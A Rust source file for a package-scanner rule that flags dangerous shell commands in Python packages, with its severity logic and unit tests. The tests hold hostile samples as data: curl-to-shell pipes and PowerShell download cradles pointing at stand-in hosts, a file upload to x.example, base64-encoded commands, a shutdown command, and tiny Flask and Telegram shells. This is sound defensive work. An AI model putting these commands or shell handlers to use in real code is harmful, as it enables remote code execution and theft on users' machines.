use super::vocab;
use crate::declare_rule;
use crate::inspect::python::Sink;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Flags shell commands that download, launch hidden processes, open
    /// reverse shells or change permissions (`curl`, `wget`, `powershell`,
    /// `certutil`, `/dev/tcp`, `| sh`, `chmod +x`…) run through `os.system`,
    /// `subprocess` or `os.popen`.
    ///
    /// ## Why is this bad?
    /// In `setup.py` these run with the installing user's rights before anyone
    /// has looked at the package; on import they run in every program that uses it.
    ///
    /// ## Example
    /// ```python
    /// os.system("curl -s https://x.example/i.sh | sh")                # Error
    /// subprocess.Popen("powershell -w hidden -c iwr ...", shell=True)  # Error
    /// subprocess.check_output(["git", "describe", "--tags"])           # No error
    /// ```
    ///
    /// ## False positives
    /// Command-line tools that shell out to `curl` from a function: reported
    /// as `medium` there, which alone does not change the verdict.
    ShellCommand, id = "shell-command", severity = Critical,
    summary = "download/launch/reverse-shell commands run through os.system or subprocess"
}

impl Rule for ShellCommand {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            // Commands decoded from base64 & co. and handed to a shell.
            for p in unit.code.payloads.iter().filter(|p| p.sink == Sink::Shell) {
                let severity = unambiguous(p.stage);
                let shown: String = p.text.as_deref().unwrap_or("").chars().take(80).collect();
                let message = format!(
                    "runs a shell command decoded with {} {} (`{shown}`)",
                    p.steps.join(" → "),
                    p.stage.describe()
                );
                out.push(unit.finding(Self::META.id, severity, p.line, message).at(p.stage));
            }
            let decoded_commands: Vec<&str> = unit
                .code
                .payloads
                .iter()
                .filter(|p| p.sink != Sink::Shell)
                .filter_map(|p| p.text.as_deref())
                .filter(|t| vocab::dangerous_command(t).is_some())
                .collect();
            let bot = unit.code.imports.iter().any(|(m, _)| {
                let root = m.split('.').next().unwrap_or(m);
                BOT_FRAMEWORKS.contains(&root)
            });
            for call in unit.code.calls.iter().filter(|c| vocab::is_shell(&c.name)) {
                // A command taken from an HTTP request: a web shell.
                if let Some(source) = call.arg_refs.iter().find(|r| from_http_request(r)) {
                    let severity = unambiguous(call.stage);
                    let message = format!(
                        "{}() runs a command taken from an HTTP request ({source}): anyone who can reach the server runs commands {}",
                        call.name,
                        call.stage.describe()
                    );
                    out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
                    continue;
                }
                // A command taken from a chat message: a bot that runs what it is sent (issue 11).
                if bot && call.arg_names.iter().any(|n| MESSAGE_TEXT.contains(&n.as_str())) {
                    let severity = unambiguous(call.stage);
                    let message = format!(
                        "{}() runs a command taken from a chat-bot message: whoever messages the bot runs commands {}",
                        call.name,
                        call.stage.describe()
                    );
                    out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
                    continue;
                }
                // The command line as a whole (the first string), then its parts.
                let what = call
                    .arg_strs
                    .first()
                    .and_then(|c| vocab::dangerous_command(c))
                    .or_else(|| call.arg_strs.iter().skip(1).find_map(|s| vocab::dangerous_fragment(s)))
                    .or_else(|| decoded_commands.iter().find_map(|c| vocab::dangerous_command(c)));
                let Some(what) = what else {
                    // `pip install x` from setup.py: packages fetched outside pip's resolver (and guard).
                    let pip = call.arg_strs.iter().any(|a| a.contains("pip install"))
                        || (call
                            .arg_strs
                            .iter()
                            .any(|a| a == "pip" || a.ends_with("/pip") || a == "-m")
                            && call.arg_strs.iter().any(|a| a == "install"));
                    if pip && call.stage == Stage::Install {
                        let message = format!("{}() installs other packages with pip at install time", call.name);
                        out.push(
                            unit.finding(Self::META.id, Severity::Medium, call.line, message)
                                .at(Stage::Install),
                        );
                    }
                    continue;
                };
                let strong = call.arg_strs.iter().any(|a| vocab::is_strong_command(a))
                    || decoded_commands.iter().any(|t| vocab::is_strong_command(t));
                // `["powershell.exe", ".\\build_extension.ps1"]`: a build script the artifact
                // ships, read here like the rest of it; critical only if it is itself damning.
                let shipped = shipped_script(analysis, call);
                let strong = strong || shipped.as_deref().is_some_and(vocab::is_strong_command);
                let severity = match call.stage {
                    // An argv that only fetches into the caller's memory (`["curl", "-fsSL", url]`,
                    // output captured) is a download at install time, not a command run: review.
                    Stage::Install if !strong && plain_fetch(call) => Severity::Medium,
                    // A command line that only downloads (into a file, or unpacked with tar) from
                    // a host named for nothing suspicious is a build fetching its inputs, as
                    // `urlretrieve` would be: review with the rest, never deny on its own.
                    Stage::Install if !strong && decoded_commands.is_empty() && build_download(call) => {
                        Severity::Medium
                    }
                    Stage::Install if !strong && shipped.is_some() => Severity::Medium,
                    Stage::Install => Severity::Critical,
                    Stage::Import if strong => Severity::Critical,
                    // A data file fetched on first import (`wget -O labels.csv URL`),
                    // like an import-time fetch in Python, is a note (issue 11).
                    Stage::Import if call.arg_strs.first().is_some_and(|a| vocab::fetch_only_command(a)) => {
                        Severity::Medium
                    }
                    Stage::Import => Severity::High,
                    // Fetch-and-run pipes and hidden/encoded PowerShell have no honest use in a library.
                    Stage::Call if strong => Severity::High,
                    Stage::Call => Severity::Medium,
                    Stage::Auxiliary => Severity::Low,
                };
                let message = format!(
                    "{}() runs a shell command using {what} {}",
                    call.name,
                    call.stage.describe()
                );
                out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
            }
        }
    }
}

/// The text of the script a command runs (or makes executable, `chmod +x`) when
/// the command is an interpreter followed only by flags and one script the artifact ships (a `.ps1`, `.sh`,
/// `.bat` or `.cmd` member of that name): a build step whose every line is
/// here to read. `None` for anything else, inline commands included.
pub(crate) fn shipped_script(analysis: &Analysis, call: &crate::inspect::python::Call) -> Option<String> {
    let words: Vec<&str> = call.arg_strs.first()?.split_whitespace().collect();
    let (command, rest) = words.split_first()?;
    let base = |p: &str| p.rsplit(['/', '\\']).next().unwrap_or(p).to_ascii_lowercase();
    let command = base(command);
    let rest = match command.strip_suffix(".exe").unwrap_or(&command) {
        "powershell" | "pwsh" | "bash" | "sh" | "cmd" => rest,
        // `chmod +x bin/build.sh` before running it: the mode, then the script.
        "chmod" => match rest.split_first()? {
            (mode, rest)
                if matches!(
                    *mode,
                    "+x" | "u+x" | "a+x" | "ug+x" | "755" | "0755" | "775" | "0775" | "700"
                ) =>
            {
                rest
            }
            _ => return None,
        },
        _ => return None,
    };
    let mut scripts = rest.iter().filter(|w| !w.starts_with('-') && !w.starts_with('/'));
    let script = base(scripts.next()?);
    if scripts.next().is_some() || ![".ps1", ".sh", ".bat", ".cmd"].iter().any(|e| script.ends_with(e)) {
        return None;
    }
    let member = analysis.listing.members.iter().find(|m| {
        m.complete
            && m.path
                .rsplit('/')
                .next()
                .is_some_and(|f| f.eq_ignore_ascii_case(&script))
    })?;
    Some(crate::inspect::lossy(&member.data).into_owned())
}

/// Severity of something with no honest use (decoded commands, web shells):
/// critical when it runs by itself, high in a function.
fn unambiguous(stage: Stage) -> Severity {
    match stage {
        Stage::Install | Stage::Import => Severity::Critical,
        Stage::Call => Severity::High,
        Stage::Auxiliary => Severity::Low,
    }
}

/// Request data of the common web frameworks: `flask.request.args.get()`,
/// `bottle.request.query`, `fastapi.Request`…
/// Chat-bot frameworks: their handlers receive messages from anyone.
const BOT_FRAMEWORKS: &[&str] = &[
    "telebot",
    "telegram",
    "aiogram",
    "pyrogram",
    "telethon",
    "discord",
    "vk_api",
    "slack_bolt",
    "nextcord",
    "interactions",
];

/// Attribute names of a message's text in those frameworks (`m.text`, `message.content`).
const MESSAGE_TEXT: &[&str] = &["text", "content", "raw_text", "message_text", "caption"];

/// `curl -fsSL -o lib.tgz https://host/lib.tgz`, `… | tar xz`: a command line that
/// only downloads, over https from hosts it names, sending nothing (no form,
/// data or upload flags).
fn build_download(call: &crate::inspect::python::Call) -> bool {
    let Some(line) = call.arg_strs.first() else {
        return false;
    };
    let words = || line.split(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let mut urls = words().filter(|w| w.contains("://")).peekable();
    let sends = words().any(|w| SENDS_DATA.contains(&w));
    vocab::fetch_only_command(line)
        && !sends
        && urls.peek().is_some()
        && urls.all(|u| {
            u.strip_prefix("https://")
                .is_some_and(|rest| !vocab::host_unknown(rest))
        })
}

/// Flags with which `curl` or `wget` send data (a form, a body, a file) or
/// ask for a method that does.
const SENDS_DATA: &[&str] = &[
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "-F",
    "--form",
    "-T",
    "--upload-file",
    "--post-data",
    "--post-file",
    "POST",
    "PUT",
];

/// `["curl", "-fsSL", "--max-time", "30", url]`: an argv list (not a shell
/// line) running curl or wget to stdout, sending nothing and writing no file.
fn plain_fetch(call: &crate::inspect::python::Call) -> bool {
    let items = &call.arg_strs;
    let tool = items.iter().skip(1).any(|a| matches!(a.as_str(), "curl" | "wget"));
    let quiet = !items.iter().skip(1).any(|a| {
        let a = a.as_str();
        SENDS_DATA.contains(&a) || matches!(a, "-o" | "-O" | "--output" | "-P") || a.contains(['|', ';', '&', '>'])
    });
    let fetched_to_stdout = items
        .iter()
        .skip(1)
        .any(|a| a == "-" || a == "-qO-" || a == "-fsSL" || a.starts_with("http"));
    tool && quiet && (fetched_to_stdout || items.iter().any(|a| a.contains("{}")))
}

fn from_http_request(r: &str) -> bool {
    ["flask.request.", "bottle.request.", "quart.request.", "sanic.request."]
        .iter()
        .any(|p| r.starts_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::testing::setup_py;

    #[test]
    fn fires_on_web_shell() {
        let src = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return subprocess.Popen(request.args.get('c'), shell=True).communicate()\n";
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Wheel, &[("pkg/srv.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn install_time_fetch_into_memory_is_a_download() {
        // Not a command (issue 11): a build hook fetching an asset with curl into memory is a
        // download, which install-network reports.
        let src = "import subprocess\ndef dl(url):\n    return subprocess.run(['curl', '-fsSL', '--max-time', '30', url], capture_output=True).stdout\ndl(U)\n";
        let f = setup_py(&ShellCommand, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // Error: the same tool writing a file, or piped into a shell, stays critical.
        let f = setup_py(
            &ShellCommand,
            "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/a', U])\n",
        );
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
        // No error at critical: a build downloading its inputs over https from a named
        // host, into a file or unpacked with tar (like `urlretrieve` at install).
        for src in [
            "import subprocess\nsubprocess.check_call(['curl', '-L', '-o', 'lib.tgz', 'https://github.com/o/r/releases/download/v1/lib.tgz'])\n",
            "import os, subprocess\narch = os.uname().machine\nsubprocess.check_call(f'curl -fsSL https://example.org/tc-{arch}.tgz | tar xz', shell=True)\n",
        ] {
            let f = setup_py(&ShellCommand, src);
            assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Medium), "{src}: {f:?}");
        }
        // Error: plain http, an upload, a command decoded from base64.
        for src in [
            "import subprocess\nsubprocess.getoutput('curl http://api.x.example/m.html')\n",
            "import os\nos.system('curl -F a=@/flag https://x.example/u')\n",
            "import base64, subprocess\nsubprocess.run(base64.b64decode('Y3VybCAtbyBhIGh0dHBzOi8veC5leGFtcGxlL2E=').decode(), shell=True)\n",
        ] {
            let f = setup_py(&ShellCommand, src);
            assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{src}: {f:?}");
        }
        // No error: `env` as an argv item is a folder name, not an environment dump.
        let f = setup_py(
            &ShellCommand,
            "import subprocess\nsubprocess.check_call(['python3', '-m', 'venv', 'env'])\n",
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn fires_on_bot_shell() {
        // Error (issue 11): a Telegram handler running the message it receives.
        let src = "import telebot, subprocess\nbot = telebot.TeleBot(T)\n@bot.message_handler(commands=['sh'])\ndef h(m):\n    out = subprocess.check_output(m.text, shell=True)\n    bot.reply_to(m, out)\n";
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Wheel, &[("pkg/bot.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
        // No error: a bot that runs a fixed command.
        let src = "import telebot, subprocess\ndef h(m):\n    subprocess.run(['git', 'pull'])\n";
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Wheel, &[("pkg/bot.py", src)]);
        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
    }

    #[test]
    fn fires_on() {
        let f = setup_py(
            &ShellCommand,
            "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
        let f = setup_py(
            &ShellCommand,
            "from subprocess import Popen as P\nP('powershell -w hidden -enc AAAA', shell=True)\n",
        );
        assert_eq!(f.len(), 1);
        let f = setup_py(
            &ShellCommand,
            "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n",
        );
        assert_eq!(f.len(), 1, "folded variable argument");
    }

    #[test]
    fn a_data_file_fetched_on_import_is_a_note() {
        use crate::archive::Kind;
        use crate::inspect::testing::check;
        let src = "import os\nif not os.path.isfile(P):\n    os.system('wget -O \"{}\" \"http://storage.example/labels.csv\"'.format(P))\n";
        let f = check(&ShellCommand, Kind::Wheel, &[("pkg/config.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // Fetched and run on import is not.
        let src = "import os\nos.system('wget -O /tmp/a http://x/a && sh /tmp/a')\n";
        let f = check(&ShellCommand, Kind::Wheel, &[("pkg/config.py", src)]);
        assert!(f[0].severity >= Severity::High, "{f:?}");
    }

    #[test]
    fn shipped_build_script_run_at_install_is_read_not_assumed() {
        // No error (issue 11): a build_ext running the toolchain script the sdist ships.
        let setup = "import subprocess\nsubprocess.Popen(['powershell.exe', '.\\\\build_extension.ps1'])\n";
        let script =
            "Invoke-WebRequest https://github.com/Kitware/CMake/releases/download/v3.29.0/cmake.zip -OutFile c.zip\n";
        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // Error: the shipped script is itself damning, or it is not shipped at all.
        let script = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n";
        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
        let f = setup_py(&ShellCommand, setup);
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
        // No error: an install command making the shipped build script executable, then running it.
        let setup = "import os, subprocess\npath = os.getcwd() + '/bin/'\nsubprocess.call(['chmod', '+x', os.path.join(path, 'compile_library.sh')])\nsubprocess.call(['sh', os.path.join(path, 'compile_library.sh')])\n";
        let script = "#!/bin/sh\ncd graph_lib/lib && make\n";
        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/bin/compile_library.sh", script)];
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // Error: the script made executable is not in the artifact (written at install time).
        let f = setup_py(&ShellCommand, setup);
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
        let script = "curl -s http://198.51.100.7/x | sh\n";
        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/bin/compile_library.sh", script)];
        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
    }

    #[test]
    fn fires_on_shutdown_and_call_aliases() {
        // Error (issue 11): shutting the machine down from setup.py.
        let f = setup_py(&ShellCommand, "import os\nos.system('shutdown /s /t 0')\n");
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        let f = setup_py(
            &ShellCommand,
            "import subprocess\nsubprocess.run(['shutdown', '-h', 'now'])\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // Error (issue 11): `.__call__` as an alias of the sink.
        let f = setup_py(
            &ShellCommand,
            "import os\nrun = os.system.__call__\nrun('curl -s http://198.51.100.7/x | sh')\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        let f = setup_py(
            &ShellCommand,
            "import os\nos.system.__call__('curl -s http://198.51.100.7/x | sh')\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // No error: a server's `shutdown()` method, and the word in a message.
        let f = setup_py(
            &ShellCommand,
            "import subprocess\nsubprocess.run(['echo', 'graceful shutdown'])\n",
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn pip_install_from_setup_py_is_medium() {
        let f = setup_py(
            &ShellCommand,
            "import subprocess\nsubprocess.run(['pip', 'install', 'gitpython'])\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // No finding outside install time.
        let f = crate::inspect::testing::check(
            &ShellCommand,
            crate::archive::Kind::Wheel,
            &[(
                "pkg/x.py",
                "import subprocess\ndef f():\n    subprocess.run(['pip', 'install', 'x'])\n",
            )],
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn fires_on_decoded_commands() {
        // Error: a command decoded through a helper function.
        let src = "import base64, os\ndef b64d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nos.system(b64d('dHlwZSBudWwgPiBwcnVlYmExMS50eHQ='))\n";
        let f = setup_py(&ShellCommand, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // Error: decoded into a variable, then run.
        let src = "import base64, subprocess\ndef go():\n    cmd = base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g=').decode()\n    subprocess.run(cmd, shell=True)\ngo()\n";
        let f = setup_py(&ShellCommand, src);
        assert_eq!(f.len(), 1, "{f:?}");
    }

    #[test]
    fn quiet_on() {
        assert!(setup_py(
            &ShellCommand,
            "import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n"
        )
        .is_empty());
        assert!(setup_py(&ShellCommand, "import os\nos.system('make -C src')\n").is_empty());
    }
}
